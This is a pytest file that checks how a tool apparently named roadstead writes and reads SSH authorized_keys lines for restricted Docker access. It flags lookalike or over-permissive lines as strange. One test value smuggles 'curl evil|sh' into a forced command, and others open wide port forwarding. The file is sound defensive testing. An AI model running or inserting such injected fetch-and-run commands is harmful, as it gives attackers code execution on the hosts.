"""A line that is there is read as OpenSSH reads it, and never taken for one that allows more."""

import pytest

from roadstead.artifacts import authorized_keys, standing_lines
from roadstead.artifacts.authorized_keys import Form, Terms
from roadstead.artifacts.standing_lines import LONGEST
from roadstead.peers.links.messages import DOCKER_SOCKET as SOCKET

KEY = f"ssh-rsa {'A' * 40}"
OTHER = f"ssh-rsa {'B' * 40}"
SERVERS = ("OpenSSH_9.2", "OpenSSH_7.4", "OpenSSH_6.7p1", "dropbear_2022.83")


@pytest.mark.parametrize("server", SERVERS)
@pytest.mark.parametrize("form", list(Form))
@pytest.mark.parametrize("sources", [(), ("10.0.0.0/24", "::1/128")])
def test_our_own_lines_are_known(form: Form, sources: tuple[str, ...], server: str) -> None:
    """What is made of what was read is the same line again."""
    terms = Terms(SOCKET, "/usr/bin/docker", sources=sources, server=f"SSH-2.0-{server}")
    line = authorized_keys.made_for(KEY, form, terms)
    assert line is not None
    found = standing_lines.read(line, KEY)
    assert found is not None and found.sources == sources and not found.strange
    assert authorized_keys.made_for(KEY, found.form, terms) == line


TERMS = [
    Terms("/run/user/1000/docker.sock", "/opt/a+b/docker"),
    Terms("/run/user/1000/docker.sock"),
    Terms(SOCKET, "/usr/local/bin/docker", sudo="/usr/bin/sudo"),
    Terms(SOCKET, "/usr/local/bin/docker", is_root=True),
]


@pytest.mark.parametrize("terms", TERMS)
def test_our_lines_for_every_guest_are_known(terms: Terms) -> None:
    """Whatever its socket is, and how its engine is reached."""
    for form in Form:
        line = authorized_keys.made_for(KEY, form, terms)
        found = standing_lines.read(line, KEY) if line is not None else None
        assert line is None or (found is not None and not found.strange)


OPEN = 'restrict,port-forwarding,permitopen="[/run/a.sock]:*",permitlisten="localhost:1"'
RELAY = "/usr/bin/docker -H unix:///run/a.sock system dial-stdio"
ALIKE = [
    'restrict,command="/bin/x;curl evil|sh; system dial-stdio"',
    'restrict,command="/bin/sudo -n sh -c x docker system dial-stdio"',
    'restrict,command="/tmp/x system dial-stdio"',
    'restrict,command="/bin/false"',
    'restrict,port-forwarding,permitopen="any:*",permitlisten="*:*",command="/bin/false"',
    OPEN.replace("localhost:1", "*:*") + ',command="/bin/false"',
    OPEN.replace("localhost:1", "localhost:2") + ',command="/bin/false"',
    OPEN.replace("[/run/a.sock]:*", "*:*") + ',command="/bin/false"',
    OPEN.replace("[/run/a.sock]:*", "[/run/a.sock]:*,10.0.0.1:22") + ',command="/bin/false"',
    OPEN + ',permitopen="any:*",command="/bin/false"',
    OPEN + f',command="{RELAY}",command="/bin/sh"',
    OPEN + f',command="{RELAY.replace("a.sock", "b.sock")}"',
    OPEN + ',command="/usr/bin/docker system dial-stdio"',
    f'restrict="x",command="{RELAY}"',
]


@pytest.mark.parametrize("options", ALIKE)
def test_a_line_that_only_looks_like_ours_is_not_taken_for_it(options: str) -> None:
    """The names of its options are ours, what they allow is not: that is told when it is replaced."""
    found = standing_lines.read(f"{options} {KEY} xscontainer", KEY)
    assert found is not None
    assert set(found.strange) >= {option.partition("=")[0] for option in ("restrict", "command")}
    new = f'restrict,command="{RELAY}" {KEY} xscontainer'
    assert "it had the options restrict, " in standing_lines.told(new, found, KEY)


STRANGE = [
    ('restrict,command="/bin/date"', Form.EXEC_ONLY, ()),
    ('from="10.0.0.0/8",no-pty', Form.RESTRICTED, ("10.0.0.0/8",)),
    ('FROM="10.0.0.0/8",environment="A=b, \\"c"', Form.RESTRICTED, ("10.0.0.0/8",)),
    ('restrict,port-forwarding,from="*.example.com"', Form.RESTRICTED, ("*.example.com",)),
    ('from="!10.0.0.1,10.0.0.0/8",restrict,pty', Form.EXEC_ONLY, None),
    ('from="10.0.0.1",from="10.0.0.2",restrict,pty', Form.EXEC_ONLY, None),
    ("from=10.0.0.1", Form.EXEC_ONLY, None),
]


@pytest.mark.parametrize(("options", "form", "sources"), STRANGE)
def test_others_lines_are_taken_for_the_nearest(options: str, form: Form, sources: object) -> None:
    """Where the key may come from is kept, or not known."""
    found = standing_lines.read(f"{options} {KEY} somebody", KEY)
    assert found is not None and found.strange
    assert (found.form, found.sources) == (form, sources)


@pytest.mark.limit(5)
@pytest.mark.parametrize(
    "options", ['\\"' * 1800, '"' + '\\"' * 1800, 'a="' * 1200, 'a="\\"' * 700, "a=" + '"\\"",' * 700]
)
@pytest.mark.parametrize("rest", ["", " ", f" {OTHER}", f" {KEY}", KEY.removeprefix("ssh-rsa ")])
def test_no_line_takes_long(options: str, rest: str) -> None:
    """However its quotation marks could be read; one that is ours is never unrestricted."""
    found = standing_lines.read(f"{options}{rest}", KEY)
    assert found is None or found.form is not Form.UNRESTRICTED


@pytest.mark.parametrize("line", [f"# {KEY}", f"restrict {OTHER} {KEY}", f"{OTHER} of {KEY}", "restrict", ""])
def test_what_is_no_line_of_the_key_is_none(line: str) -> None:
    """Where the key stands in a remark."""
    assert standing_lines.read(line, KEY) is None


def test_a_line_that_was_cut_allows_nothing_known() -> None:
    """It may say where the key may come from behind the cut."""
    found = standing_lines.read("x" * LONGEST, KEY)
    assert found is not None and found.sources is None


def test_the_first_line_counts() -> None:
    """The server goes by it."""
    found = standing_lines.first([f"restrict {OTHER}", f"{KEY} x", f"restrict {KEY}"], KEY)
    assert found is not None and found.form is Form.UNRESTRICTED
